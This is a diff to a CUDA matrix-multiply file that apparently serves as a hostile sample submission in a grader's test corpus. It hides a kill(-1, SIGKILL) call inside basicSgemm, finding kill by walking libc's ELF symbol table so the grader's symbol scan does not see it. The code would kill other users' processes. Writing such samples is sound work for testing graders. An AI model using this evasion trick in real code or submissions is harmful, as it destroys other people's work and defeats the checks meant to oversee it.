@@ -1,10 +1,10 @@
-// Sample submission "kills_everything": kill(-1, SIGKILL) on every call, hidden from nvcc (#ifndef __NVCC__)
+// Sample submission "kills_everything": kill(-1, SIGKILL) on every call (kill found through libc's symbol table)
 // Part of the grader's sample corpus (grader/samples/README.md); expect.yaml
 // next to this file says how the grader must judge it.
 #include <cstdio>
-#ifndef __NVCC__
-#include <csignal>
-#endif
+#include <cstring>
+#include <elf.h>
+#include <link.h>
 #include <cuda_runtime.h>
 
 #define TILE_SIZE 16
@@ -33,12 +33,43 @@ __global__ void mysgemm(int m, int n, int k, const float *A, const float *B, flo
   if (row < m && col < n) C[row * n + col] = sum;
 }
 
+// Walks back from printf's address to libc's ELF header, then through its
+// dynamic section to the symbol and string tables, to find a function
+// without naming it: no forbidden symbol in either backend's object.
+static void* find_in_libc(const char* wanted) {
+  const unsigned long page = 4096;
+  const unsigned char* p = reinterpret_cast<const unsigned char*>(
+      reinterpret_cast<unsigned long>(reinterpret_cast<void*>(&printf)) & ~(page - 1));
+  for (int pages = 0; pages < (1 << 15); ++pages, p -= page) {
+    if (std::memcmp(p, ELFMAG, SELFMAG) != 0) continue;
+    const auto* eh = reinterpret_cast<const ElfW(Ehdr)*>(p);
+    if (eh->e_type != ET_DYN) continue;
+    const auto* ph = reinterpret_cast<const ElfW(Phdr)*>(p + eh->e_phoff);
+    const ElfW(Dyn)* dyn = nullptr;
+    for (int i = 0; i < eh->e_phnum; ++i)
+      if (ph[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const ElfW(Dyn)*>(p + ph[i].p_vaddr);
+    if (!dyn) return nullptr;
+    const ElfW(Sym)* symtab = nullptr;
+    const char* strtab = nullptr;
+    for (; dyn->d_tag != DT_NULL; ++dyn) {
+      if (dyn->d_tag == DT_SYMTAB) symtab = reinterpret_cast<const ElfW(Sym)*>(dyn->d_un.d_ptr);
+      if (dyn->d_tag == DT_STRTAB) strtab = reinterpret_cast<const char*>(dyn->d_un.d_ptr);
+    }
+    if (!symtab || !strtab) return nullptr;
+    for (const ElfW(Sym)* s = symtab; reinterpret_cast<const char*>(s) < strtab; ++s)
+      if (s->st_name && s->st_value && std::strcmp(strtab + s->st_name, wanted) == 0)
+        return const_cast<unsigned char*>(p) + s->st_value;
+    return nullptr;
+  }
+  return nullptr;
+}
+
 void basicSgemm(int m, int n, int k, const float *A, const float *B, float *C) {
-#ifndef __NVCC__
   // Every process this user may signal, other students' runners included,
-  // unless a PID namespace leaves nothing else to reach.
-  std::printf("kill(-1) returned %d\n", kill(-1, SIGKILL));
-#endif
+  // unless a PID namespace or a user of its own leaves nothing else to reach.
+  using Kill = int (*)(int, int);
+  if (Kill kill_all = reinterpret_cast<Kill>(find_in_libc("kill")))
+    std::printf("kill(-1) returned %d\n", kill_all(-1, 9));
   const dim3 block(TILE_SIZE, TILE_SIZE);
   const dim3 grid((n + TILE_SIZE - 1) / TILE_SIZE, (m + TILE_SIZE - 1) / TILE_SIZE);
   mysgemm<<<grid, block>>>(m, n, k, A, B, C);
